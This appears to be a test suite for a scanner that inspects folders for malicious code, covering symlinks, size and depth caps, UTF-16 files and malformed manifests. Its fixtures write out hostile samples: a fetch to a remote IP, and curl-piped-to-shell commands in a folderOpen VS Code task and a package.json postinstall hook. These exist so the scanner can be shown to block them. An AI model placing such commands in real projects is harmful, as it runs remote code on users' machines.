/** Folders: symlinks reported and never read through, caps that make a scan incomplete, text decoding. */
import assert from 'node:assert/strict';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { scanFolder, tempDir } from './helpers.js';

describe('folder acquisition', () => {
  let t: ReturnType<typeof tempDir>;
  beforeEach(() => {
    t = tempDir();
  });
  afterEach(() => t.cleanup());

  it('never reads through a symlink that points outside the root, and says so', async () => {
    const outside = path.join(t.dir, 'secret.js');
    writeFileSync(outside, "fetch('http://198.51.100.77:1224/pdown')\n");
    const root = path.join(t.dir, 'repo');
    mkdirSync(root);
    writeFileSync(path.join(root, 'index.js'), 'console.log(1)\n');
    symlinkSync(outside, path.join(root, 'config.js'));
    symlinkSync('/', path.join(root, 'rootfs'));
    const r = await scanFolder(root);
    assert.equal(r.findings.length, 0, 'content behind the link was not read');
    const links = r.diagnostics.filter((d) => d.code === 'symlink-not-followed');
    assert.deepEqual(links.map((d) => d.file).sort(), ['config.js', 'rootfs']);
    assert.ok(links.every((d) => /outside the scanned tree/.test(d.message)));
  });

  it('a file over the size limit makes the scan incomplete unless its header proves it is media', async () => {
    writeFileSync(path.join(t.dir, 'big.js'), Buffer.alloc(2048, 0x61));
    const png = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(2048)]);
    writeFileSync(path.join(t.dir, 'photo.png'), png);
    const r = await scanFolder(t.dir, { limits: { maxFileBytes: 1024 } });
    assert.equal(r.complete, false);
    const big = r.diagnostics.find((d) => d.file === 'big.js');
    const photo = r.diagnostics.find((d) => d.file === 'photo.png');
    assert.equal(big?.incomplete, true);
    assert.equal(photo?.incomplete, false);
  });

  it('depth and file-count caps are diagnostics, never silent', async () => {
    let dir = t.dir;
    for (let i = 0; i < 6; i++) {
      dir = path.join(dir, `d${i}`);
      mkdirSync(dir);
    }
    writeFileSync(path.join(dir, 'deep.js'), 'x');
    const deep = await scanFolder(t.dir, { limits: { maxDepth: 3 } });
    assert.ok(deep.diagnostics.some((d) => d.code === 'depth-limit'));
    assert.equal(deep.complete, false);
    for (let i = 0; i < 20; i++) writeFileSync(path.join(t.dir, `f${i}.txt`), 'x');
    const many = await scanFolder(t.dir, { limits: { maxFiles: 5 } });
    assert.ok(many.diagnostics.some((d) => d.code === 'file-count-limit'));
    assert.equal(many.complete, false);
  });

  it('reads UTF-16 files with a BOM (a tasks.json saved as UTF-16 still blocks)', async () => {
    mkdirSync(path.join(t.dir, '.vscode'));
    const json = JSON.stringify({
      version: '2.0.0',
      tasks: [{ label: 'x', type: 'shell', command: 'curl -s https://a.invalid/settings/linux?flag=1 | sh', runOptions: { runOn: 'folderOpen' } }],
    });
    writeFileSync(path.join(t.dir, '.vscode', 'tasks.json'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(json, 'utf16le')]));
    const r = await scanFolder(t.dir);
    assert.equal(r.verdict, 'block');
  });

  it('malformed manifests are diagnostics, not crashes', async () => {
    writeFileSync(path.join(t.dir, 'package.json'), '{"name": "x", "scripts": {"postinstall": "curl -s http://198.51.100.2/x | sh",');
    mkdirSync(path.join(t.dir, '.vscode'));
    writeFileSync(path.join(t.dir, '.vscode', 'tasks.json'), '{ "tasks": [ /* unterminated');
    const r = await scanFolder(t.dir);
    assert.equal(r.complete, false);
    assert.ok(r.diagnostics.some((d) => d.code === 'parse-error' && d.file === 'package.json'));
    assert.ok(r.diagnostics.some((d) => d.code === 'parse-error' && d.file === '.vscode/tasks.json'));
    assert.equal(r.verdict, 'block', 'what could be read was still analysed');
  });
});
